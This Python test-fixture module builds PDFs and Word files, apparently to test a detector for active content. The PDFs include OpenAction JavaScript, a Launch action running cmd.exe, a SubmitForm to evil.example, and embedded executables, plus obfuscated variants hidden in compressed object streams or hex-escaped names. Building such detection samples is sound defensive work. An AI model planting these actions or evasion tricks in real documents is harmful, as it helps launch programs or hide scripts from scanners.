"""PDFs and Word documents as other programs write them, with and without something that acts when they are opened."""

import io
import zipfile
import zlib
from collections.abc import Callable
from typing import Final

from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

__all__ = ["ACTIVE_PDFS", "HARMLESS_PDFS", "PDF", "packed_pdf", "word"]

type Change = Callable[[PdfWriter], object]


def _pdf(*changes: Change) -> bytes:
    writer, out = PdfWriter(), io.BytesIO()
    writer.add_blank_page(200, 200)
    for change in changes:
        change(writer)
    writer.write(out)
    return out.getvalue()


def _action(kind: str, **more: str) -> DictionaryObject:
    values = {NameObject(f"/{name}"): TextStringObject(text) for name, text in more.items()}
    return DictionaryObject({NameObject("/S"): NameObject(f"/{kind}"), **values})


def _open_action(action: DictionaryObject) -> Change:
    return lambda writer: writer.root_object.update({NameObject("/OpenAction"): writer._add_object(action)})


def _on_page(key: str, value: DictionaryObject) -> Change:
    return lambda writer: writer.pages[0].update({NameObject(key): value})


def _annotation(subtype: str, **more: str) -> Change:
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject(f"/{subtype}"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 9, 9)]),
            **{NameObject(f"/{name}"): TextStringObject(text) for name, text in more.items()},
        }
    )
    return lambda writer: writer.pages[0].update({NameObject("/Annots"): ArrayObject([writer._add_object(annotation)])})


def _form(writer: PdfWriter) -> None:
    xfa = DecodedStreamObject()
    xfa.set_data(b"<xdp/>")
    form = DictionaryObject({NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(xfa)})
    writer.root_object[NameObject("/AcroForm")] = form


def packed_pdf(packed: bytes, *, root: str = "/OpenAction 4 0 R") -> bytes:
    """A PDF whose object 4 lies in a packed list of objects (PDF 1.5): nothing of it can be read as bytes."""
    listed = b"4 0 " + packed
    stream = zlib.compress(listed)
    parts = [
        f"1 0 obj<</Type/Catalog/Pages 2 0 R {root}>>endobj\n".encode(),
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n",
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n",
        f"5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length {len(stream)}>>stream\n".encode()
        + stream
        + b"\nendstream endobj\n",
    ]
    whole, offsets = b"%PDF-1.5\n", {}
    for number, part in zip((1, 2, 3, 5), parts, strict=True):
        offsets[number] = len(whole)
        whole += part
    rows = [(0, 0, 65535), *((1, offsets[n], 0) for n in (1, 2, 3)), (2, 5, 0), (1, offsets[5], 0), (1, len(whole), 0)]
    table = b"".join(bytes([kind]) + place.to_bytes(4, "big") + more.to_bytes(2, "big") for kind, place, more in rows)
    head = f"6 0 obj<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length {len(table)}>>stream\n".encode()
    start = len(whole)
    return whole + head + table + f"\nendstream endobj\nstartxref\n{start}\n%%EOF\n".encode()


def _named_program(writer: PdfWriter) -> None:
    named = ArrayObject([TextStringObject("a"), writer._add_object(_action("JavaScript", JS="app.alert(1)"))])
    tree = DictionaryObject({NameObject("/Names"): named})
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})


def _goto(writer: PdfWriter) -> None:
    action = _action("GoTo")
    action[NameObject("/D")] = ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])
    writer.root_object[NameObject("/OpenAction")] = action


def word(**parts: bytes) -> bytes:
    """A Word document with these parts besides those that every one has; "/" is written "__" in a name."""
    usual = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in (usual | {name.replace("__", "/"): content for name, content in parts.items()}).items():
            archive.writestr(name, content)
    return out.getvalue()


PDF: Final = _pdf()
HARMLESS_PDFS: Final = {
    "plain": PDF,
    "opens at a page": _pdf(_goto),
    "a link": _pdf(lambda writer: writer.add_annotation(0, Link(rect=(0, 0, 9, 9), url="https://example.org/launch"))),
    **{
        f"only the words of an action: {words.decode()}": PDF.replace(
            b"startxref", b"9 0 obj" + words + b"endobj\nstartxref"
        )
        for words in (
            b"<</S/URI/URI(https://pib.gov.in/Press/Launch-of-scheme.aspx)>>",
            b"<</S/URI/URI(https://x.org/docs/Web/JavaScript)>>",
            b"<</Title(HTML/JavaScript \\(of /S/Launch\\) and (its /JavaScript 5 0 R))>>",
            b"<</Length 30>>stream\n<li>HTML/JavaScript 101</li>\nendstream ",
        )
    },
    "only its owner may change it": _pdf(lambda writer: writer.encrypt("", "owner", algorithm="RC4-128")),
    "a packed list of objects": packed_pdf(b"<</S/GoTo/D[3 0 R/Fit]>>"),
}
ACTIVE_PDFS: Final = {
    "a program at opening": _pdf(_open_action(_action("JavaScript", JS="app.alert(1)"))),
    "a program in the list of names": _pdf(_named_program),
    "a program of a page": _pdf(_on_page("/AA", DictionaryObject({NameObject("/O"): _action("JavaScript", JS="1")}))),
    "a program to start": _pdf(_open_action(_action("Launch", F="cmd.exe"))),
    "a form to send": _pdf(_open_action(_action("SubmitForm", F="https://evil.example/"))),
    "another file that opens": _pdf(_open_action(_action("GoToE"))),
    "something that plays": _pdf(_open_action(_action("Rendition"))),
    "an attached file": _pdf(lambda writer: writer.add_attachment("a.exe", b"MZ")),
    "a file on a page": _pdf(_annotation("FileAttachment")),
    "rich media": _pdf(_annotation("RichMedia")),
    "a form of programs": _pdf(_form),
    "packed: a program": packed_pdf(b"<</S/JavaScript/JS(app.alert\\(1\\))>>"),
    "packed: a program with its name written in digits": packed_pdf(b"<</S/JavaScr#69pt/#4a#53(1)>>"),
    "packed: something to start": packed_pdf(b"<</S/Launch/F(cmd.exe)>>"),
    "packed: a file": packed_pdf(b"<</Type/Filespec/EF<</F 3 0 R>>>>", root="/Names 4 0 R"),
    "packed: deep inside": packed_pdf(b"<</A[[<</B<</S/Launch>>>>]]>>"),
    "locked for others, with a program": _pdf(
        _open_action(_action("JavaScript", JS="1")), lambda writer: writer.encrypt("", "owner", algorithm="RC4-128")
    ),
    "a program that the list of objects has not": PDF.replace(b"%%EOF", b"9 0 obj<</S/JavaScript/JS(1)>>endobj\n%%EOF"),
    **{
        f"not in the list of objects: {unlisted.decode()}": PDF.replace(
            b"%%EOF", b"9 0 obj" + unlisted + b"endobj\n%%EOF"
        )
        for unlisted in (
            b"<</S /Launch/F(cmd.exe)>>",
            b"<</S\0\n/J#61vaScript/JS(1)>>",
            b"<</S%a comment\n/JavaScript/JS(1)>>",
            b"<<%(\n/S/JavaScript%)\n/JS(1)>>",
            b"<</A<(>/S/JavaScript/B<)>/JS(1)>>",
            b"<</A#28/S/JavaScript/B#29/JS(1)>>",
            b"<</A(\\\\)/S/JavaScript/B(\\\\)/JS(1)>>",
            b"/JavaScript ",
            b"<</Names<</JavaScript 5 0 R>>>>",
            b"<</Names<</EmbeddedFiles<</Names[]>>>>>>",
            b"<</Names<</JavaScript%\n5 0 R>>>>",
            b"<</Type/EmbeddedFile/Length 0>>",
            b"<</Subtype/RichMedia>>",
        )
    },
    "its kind stands elsewhere": packed_pdf(b"/JavaScript", root="/OpenAction<</S 4 0 R/F(1)>>"),
}
